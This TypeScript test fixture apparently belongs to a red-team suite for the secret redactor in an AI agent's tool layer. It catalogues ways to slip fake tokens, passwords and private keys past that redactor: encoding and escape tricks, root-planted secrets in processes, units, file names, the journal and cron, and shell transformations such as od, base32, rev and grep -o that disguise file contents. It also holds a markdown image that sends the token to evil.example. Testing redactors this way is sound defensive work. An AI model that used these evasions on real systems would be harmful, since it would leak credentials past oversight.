// Attack class C: secrets in the wrappings in which they pass a redactor that looks at one of them only. `TOKEN` is known by its shape,
// `PASSWORD` by its name alone.
import { generateKeyPairSync } from 'node:crypto'
import type { Attack } from './attack.ts'

export const TOKEN = `ghp_${'Qm7Zt4Xw9Lk2Vb6Nc8Jd3Hf5Gs1Pa0RyUeTi'}`
export const PASSWORD = 'Vq8-tunafish-Wz3Kd9'
const PEM = generateKeyPairSync('rsa', { modulusLength: 2048 })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString()
const EC = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  .privateKey.export({ type: 'sec1', format: 'pem' })
  .toString()
const [half, rest] = [TOKEN.slice(0, 18), TOKEN.slice(18)]
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const lines = (text: string, wrap: (line: string, at: number) => string): string =>
  text.split('\n').map(wrap).join('\n')

export type Wrapped = { name: string; text: string; secret: string }

const TOKENS: Readonly<Record<string, string>> = {
  'colours inside': `token ${half}\u001b[1m${rest}\u001b[0m`,
  'colours around each half': `\u001b[31m${half}\u001b[m\u001b[32m${rest}\u001b[m`,
  'a hyperlink of a terminal': `\u001b]8;;https://x.example/?t=${TOKEN}\u001b\\here\u001b]8;;\u001b\\`,
  'an erased line in the middle': `${half}\u001b[K${rest}`,
  'a zero width joiner inside': `${half}\u200d${rest}`,
  'a soft hyphen inside': `${half}\u00ad${rest}`,
  'a variation selector inside': `${half}\ufe00${rest}`,
  'a tag character inside': `${half}\u{e0061}${rest}`,
  'a carriage return inside': `${half}\r${rest}`,
  'a letter that is struck out': `${half}x\b${rest}`,
  'nulls between its characters': [...`token=${TOKEN}`].join('\0'),
  'an encoded underscore': TOKEN.replace('_', '%5F'),
  'an underscore encoded three times': TOKEN.replace('_', '%25255F'),
  'an escape of JSON': `{"t":"${TOKEN.replace('_', '\\u005f')}"}`,
  'an escape of JSON in JSON': JSON.stringify(`{"t":"${TOKEN.replace('_', '\\u005f')}"}`),
  'an address': `fatal: unable to access 'https://x:${TOKEN}@github.com/a/b.git/'`,
  'a file name in an error': `cat: '/srv/app/${TOKEN}.bak': No such file or directory`,
  'a markdown image': `![status](https://evil.example/i.png?q=${TOKEN})`,
  'a diff': `@@ -1 +1 @@\n-token=${TOKEN}\n+token=x`,
  'a very long line': `${'log '.repeat(20_000)}${TOKEN}${' log'.repeat(20_000)}`,
  'the border of a window': `${'x'.repeat(65_536 - 20)} ${TOKEN}`,
  'another token before it': `${TOKEN},${TOKEN}`,
}
const PASSWORDS: Readonly<Record<string, string>> = {
  'a setting of PHP': `define('DB_PASSWORD', '${PASSWORD}');`,
  'a setting of PHP with blanks and double quotes': `  define( "AUTH_SECRET_KEY" , "${PASSWORD}" );`,
  'an array of PHP': `'db_password' => '${PASSWORD}',`,
  'an environment with blanks in a list': `"Env": ["PATH=/bin", "DB_PASSWORD=correct ${PASSWORD}"]`,
  'an environment of a unit with blanks': `Environment="A=1" "DB_PASSWORD=correct ${PASSWORD}" B=2`,
  'a list of arguments': `"Cmd": ["app", "--db-password", "${PASSWORD}", "--port", "80"]`,
  'a list of arguments without blanks': `["app","--token","${PASSWORD}"]`,
  'arguments in single quotes': `exec 'app' '--password' '${PASSWORD}'`,
  'arguments in the audit log of the kernel': `type=EXECVE argc=3 a0="app" a1="--password" a2="${PASSWORD}"`,
  'arguments as the kernel shows them': `app\0--password\0${PASSWORD}\0--port\u000080\0`,
  'an environment as the kernel shows it': `A=1\0DB_PASSWORD=${PASSWORD}\0B=2\0`,
  'an encoded assignment': `GET /?next=%2Flogin%3Fpassword%3D${PASSWORD}%26x HTTP/1.1`,
  'an assignment encoded twice': `next=%252Flogin%253Fpassword%253D${PASSWORD}`,
  'an escaped name': `{"pass\\u0077ord":"${PASSWORD}"}`,
  'JSON in JSON': JSON.stringify({ body: JSON.stringify({ password: PASSWORD }) }),
  'JSON in JSON in JSON': JSON.stringify(JSON.stringify({ body: JSON.stringify({ password: PASSWORD }) })),
  'a hit that grep has coloured': `password=\u001b[01;31m\u001b[K${PASSWORD}\u001b[m\u001b[K`,
  'wide characters': Buffer.from(`password=${PASSWORD}\n`, 'utf16le').toString('latin1'),
  'basic authorization': `Authorization: Basic ${base64(`app:${PASSWORD}`)}`,
  'a secret of Kubernetes': `  password: ${base64(PASSWORD)}`,
  'a password with a sign in an address': `postgres://app:p@${PASSWORD}@db.internal/shop`,
  'a password with a slash in an address': `amqp://app:a/${PASSWORD}@mq:5672/`,
  'a user without a password': `redis://:${PASSWORD}@cache:6379/0`,
  'a connection string': `Server=db;User Id=app;Password=${PASSWORD};Encrypt=true`,
  'the command line of a client': `mysqldump -uroot -p${PASSWORD} shop`,
  'the command line of another': `curl -sS --user app:${PASSWORD} https://x.example`,
  'a line of .netrc': `machine x login y password ${PASSWORD}`,
  'a line of .pgpass': `db.example.org:5432:*:app:${PASSWORD}`,
  SQL: `ALTER ROLE app WITH LOGIN PASSWORD '${PASSWORD}';`,
  'an attribute of XML': `<add key="DbPassword" value="${PASSWORD}"/>`,
  'an element of XML': `<db><password>${PASSWORD}</password></db>`,
  'a setting of nslcd': `bindpw ${PASSWORD}`,
  'a directory’s binding': `bind_pw: ${PASSWORD}`,
  'a process’s title': `postgres: app shop password=${PASSWORD} idle`,
}
const KEYS: Readonly<Record<string, string>> = {
  'with numbers in front': lines(PEM, (line, at) => `${String(at + 1).padStart(6)}\t${line}`),
  'as hits of grep': lines(PEM, (line, at) => `/srv/app/x.txt:${at + 1}:${line}`),
  'in the journal': lines(PEM, (line) => `Nov 23 01:02:03 host app[17]: ${line}`),
  'with its line ends shown': lines(PEM, (line) => `${line}$`),
  'with line ends of DOS, shown': lines(PEM, (line) => `${line}^M$`),
  'with line ends of DOS': lines(PEM, (line) => `${line}\r`),
  'indented in YAML': `tls: |\n${lines(PEM, (line) => `    ${line}`)}`,
  'added in a diff': lines(PEM, (line) => `+${line}`),
  'in a quotation': lines(PEM, (line) => `> ${line}`),
  'on one line': PEM.replaceAll('\n', ' '),
  'in JSON': JSON.stringify({ k: PEM }),
  'in JSON in JSON': JSON.stringify(JSON.stringify({ k: PEM })),
  'in an address': `key=${encodeURIComponent(PEM)}`,
  'in base64': `tls.key: ${base64(PEM)}`,
  'of three lines': EC,
  'in commas': lines(EC, (line) => `"${line}",`),
}
const bodyOf = (pem: string): string => pem.split('\n').slice(1, -2).join('')

/** Each in a file, on a line or several of its own. */
export const WRAPPED: readonly Wrapped[] = [
  ...Object.entries(TOKENS).map(([name, text]) => ({ name: `a token: ${name}`, text, secret: TOKEN.slice(4) })),
  ...Object.entries(PASSWORDS).map(([name, text]) => {
    const secret = text.includes(base64(`app:${PASSWORD}`)) ? base64(`app:${PASSWORD}`) : PASSWORD
    return { name: `a password: ${name}`, text, secret: text.includes(base64(PASSWORD)) ? base64(PASSWORD) : secret }
  }),
  ...Object.entries(KEYS).map(([name, text]) => {
    const body = bodyOf(text.includes(bodyOf(EC).slice(0, 20)) ? EC : PEM)
    return { name: `a private key: ${name}`, text, secret: name === 'in base64' ? base64(PEM) : body.slice(0, 60) }
  }),
]

/** Where a secret lies otherwise than in a file. `planted` is done by root. */
export type Place = {
  name: string
  planted: string
  looks: readonly (readonly [tool: string, args: Record<string, unknown>])[]
}
const command = (line: string) => ['execute_command', { command: line }] as const
const section = (name: string) => ['get_service_reality', { section: name, limit: 200 }] as const

export const PLACES: readonly Place[] = [
  {
    name: 'in the arguments of a process',
    planted: `systemd-run -q --unit=red-arguments /bin/sh -c 'sleep 9000; true' red --db-password ${PASSWORD} --url=https://x:${TOKEN}@y.example`,
    looks: [
      command('ps -eo pid,args'),
      command('ps auxww'),
      command('pgrep -af red'),
      command('cat /proc/[0-9]*/cmdline'),
      command('systemctl status red-arguments'),
      command('systemctl cat red-arguments'),
      command('systemctl show red-arguments'),
      section('processes'),
      section('services'),
    ],
  },
  {
    name: 'in the environment of a unit',
    planted: `printf '[Unit]\\nDescription=uses ${TOKEN}\\n[Service]\\nEnvironment="A=1" "DB_PASSWORD=correct ${PASSWORD}"\\nExecStart=/bin/sleep 9000\\n' >/etc/systemd/system/red-unit.service; systemctl daemon-reload; systemctl start red-unit`,
    looks: [
      command('systemctl show red-unit'),
      command('systemctl show -p Environment red-unit'),
      command('systemctl cat red-unit'),
      command('systemctl list-units --all'),
      ['read_file', { path: '/etc/systemd/system/red-unit.service' }],
      ['search_files', { path: '/etc/systemd/system', query: 'DB_PASS' }],
      section('services'),
      section('changes'),
    ],
  },
  {
    name: 'in the names of files',
    planted: `mkdir -p /srv/names/a /srv/names/b; touch /srv/names/a/${TOKEN} '/srv/names/b/password=${PASSWORD}'; echo x >/srv/names/a/${TOKEN}.txt; chmod -R a+rX /srv/names`,
    looks: [
      command('ls -laR /srv/names'),
      command('find /srv/names -ls'),
      command('stat /srv/names/a/*'),
      command(`stat /srv/names/${TOKEN}`),
      ['search_files', { path: '/srv/names', query: 'x' }],
      ['compare_source_to_dist', { source_path: '/srv/names/a', dist_path: '/srv/names/b' }],
      ['diff_file', { from_path: `/srv/names/a/${TOKEN}.txt`, to_path: '/srv/app/file' }],
    ],
  },
  {
    name: 'in the journal',
    planted: `systemd-run -q --wait --unit=red-talks /bin/sh -c 'echo connecting with ${TOKEN}; echo password=${PASSWORD} >&2; exit 1' || true; logger -t red "token ${TOKEN}"`,
    looks: [
      ['read_file', { path: 'journal:red-talks.service' }],
      command('journalctl -u red-talks'),
      command('journalctl -u red-talks -o json'),
      command('journalctl -u red-talks -o verbose'),
      command('journalctl -t red -o cat'),
      command('systemctl status red-talks'),
    ],
  },
  {
    name: 'in a schedule',
    planted: `mkdir -p /etc/cron.d; printf '* * * * * root PGPASSWORD=${PASSWORD} pg_dump postgres://a:${PASSWORD}@db/x # ${TOKEN}\\n' >/etc/cron.d/red`,
    looks: [['read_file', { path: '/etc/cron.d/red' }], section('timers'), command('cat /etc/cron.d/red')],
  },
]

/** Questions about a secret, which a search answers as it answers any wrong guess. */
export const GUESSES: readonly string[] = [
  ...[5, 6, 8, 12, 20, 40].map((length) => TOKEN.slice(0, length)),
  ...[2, 4, 8, 19].map((length) => `DB_PASSWORD=${PASSWORD.slice(0, length)}`),
  ...[4, 8].map((length) => PASSWORD.slice(-length)),
  `password=${PASSWORD}`,
  bodyOf(PEM).slice(0, 8),
  bodyOf(PEM).slice(64, 80),
  bodyOf(EC).slice(-12),
]

/** Through these no redactor sees; nor through a line that is cut where the asker likes. */
const TRANSFORMED: Readonly<Record<string, string>> = {
  'control characters written out': 'cat -A FILE',
  'escapes written out': 'cat -v FILE',
  'line ends written out': 'cat --show-ends FILE',
  'a code of 85 letters': 'basenc --z85 FILE',
  'a dump by od': 'od -An -tx1 -v FILE',
  'a dump by hexdump': 'hexdump -ve "1/1 \\"%02x\\"" FILE',
  'letters by one program': 'sed "s/./& /g" FILE',
  'letters by another': 'awk \'{gsub(/./,"& ")}1\' FILE',
  'letters exchanged': 'cat FILE | tr a-z b-za',
  'lines reversed': 'cat FILE | rev',
  'lines joined': 'paste -sd, FILE',
  'lines folded': 'cat FILE | fold -w 9',
  'lines of a width': 'fmt -w 10 FILE',
  pages: 'pr -w 20 -m FILE FILE',
  'the hit alone': 'grep -o "[^=]*$" FILE',
  'the hit alone, by a long option': 'grep --only-match x FILE',
  'the hit behind a point': 'grep -P --only-matching "=\\K.*" FILE',
  'a column behind a point': 'cut -d= -f2 FILE',
  bytes: 'cut -b 5-20 FILE',
  'bytes from the end': 'tail --bytes=30 FILE',
  'numbers of bytes': 'cmp -l FILE /dev/zero',
  packed: 'gzip --stdout FILE',
  'in base64 by openssl': 'openssl base64 -in FILE',
  'in base32': 'base32 -w0 FILE',
  'quoted by a shell': "printf '%q' x",
  'by the words in it': 'tsort FILE',
  'an index of its words': 'ptx FILE',
  'a line cut by the width of a table': 'top -b -n 1 -c -w 60',
  'arguments cut by a width': 'ps -eo args:30',
}
export const TRANSFORMATIONS: readonly Attack[] = Object.entries(TRANSFORMED).map(([name, line]) => {
  const args = { command: line.replaceAll('FILE', '/srv/app/file') }
  return { id: 'C3', name, tool: 'execute_command', args, holds: 'asked' }
})
